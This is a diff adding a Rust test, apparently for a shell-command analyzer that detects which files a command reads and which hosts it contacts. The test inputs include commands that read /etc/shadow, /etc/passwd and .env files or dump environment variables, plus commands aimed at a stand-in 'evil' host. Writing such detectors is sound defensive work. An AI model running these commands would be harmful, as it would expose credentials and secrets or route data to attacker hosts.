@@ -328,3 +328,64 @@ fn a_file_that_the_text_fills_and_runs_is_hidden_code() {
         assert_eq!(read(text).hidden, Vec::<&str>::new(), "{text}");
     }
 }
+
+#[test]
+fn files_that_only_an_option_or_a_script_names_are_read_and_written() {
+    // SPEC: [S4.36]
+    let first = |text: &str| read(text).commands.into_iter().next().expect(text);
+    for (text, file) in [
+        ("sed 'r /etc/shadow' x", "/etc/shadow"),
+        ("sed -n '$R .env' x", "/app/.env"),
+        ("awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'", "/etc/shadow"),
+        ("awk '{getline < \".env\"; print}' x", "/app/.env"),
+        ("awk 'BEGIN{print ENVIRON[\"K\"]}'", "/proc/self/environ"),
+        ("jq -n env", "/proc/self/environ"),
+        ("jq -n '$ENV.K'", "/proc/self/environ"),
+        ("jq --slurpfile s /etc/passwd . a.json", "/etc/passwd"),
+        ("jq -L /home/o . a.json", "/home/o"),
+        ("env A=1", "/proc/self/environ"),
+        ("printenv K", "/proc/self/environ"),
+        ("cat <> .env", "/app/.env"),
+        ("git show HEAD:.env", "/app/.env"),
+        ("git log -p -- .env", "/app/.env"),
+        ("git blame .env", "/app/.env"),
+        ("git --git-dir=/home/o/.git log", "/home/o/.git"),
+        ("git -C /home/o status", "/home/o"),
+        ("git commit -F /etc/shadow", "/etc/shadow"),
+        ("GIT_DIR=/home/o/.git git log", "/home/o/.git"),
+        ("RUSTC_WRAPPER=/home/o/x cargo build", "/home/o/x"),
+        ("KUBECONFIG=/home/o/c kubectl get pods", "/home/o/c"),
+        ("kubectl get -f /home/o/x.yaml", "/home/o/x.yaml"),
+        ("terraform plan -var-file=/home/o/x", "/home/o/x"),
+        ("du --files0-from=/etc/shadow", "/etc/shadow"),
+        ("go build -o /tmp/x", "/tmp/x"),
+    ] {
+        let reads: Vec<String> = read(text).commands.iter().flat_map(|c| shows(&c.reads)).collect();
+        assert!(reads.iter().any(|r| r == file), "{text}: {reads:?}");
+    }
+    assert!(shows(&first("git worktree add /tmp/w").writes).contains(&"/tmp/w".to_owned()));
+    assert!(shows(&first("cat <> x").writes).contains(&"/app/x".to_owned()));
+    for (text, host) in [
+        ("docker -H tcp://evil:2375 ps", "tcp://evil:2375"),
+        ("kubectl --server=https://evil get pods", "https://evil"),
+        ("https_proxy=http://evil:1 curl https://h", "http://evil:1"),
+        ("npm install --registry=https://evil", "https://evil"),
+    ] {
+        assert!(shows(&first(text).targets).contains(&host.to_owned()), "{text}");
+    }
+    // What only looks like a file is none.
+    for text in [
+        "jq --arg s .env '.name == $s' a.json",
+        "jq '.env, \"env\", .a.environment' a.json",
+        "sed 's/r/x/' a",
+        "grep --include=/x y a",
+        "git log --grep=/etc/passwd -S /etc/shadow",
+        "git commit -m /etc/passwd",
+        "printenv HOME",
+        "env -i A=1",
+    ] {
+        let reads: Vec<String> = read(text).commands.iter().flat_map(|c| shows(&c.reads)).collect();
+        let is_wrong = |r: &String| r.contains("env") || r.starts_with("/etc") || r == "/x";
+        assert!(!reads.iter().any(is_wrong), "{text}: {reads:?}");
+    }
+}
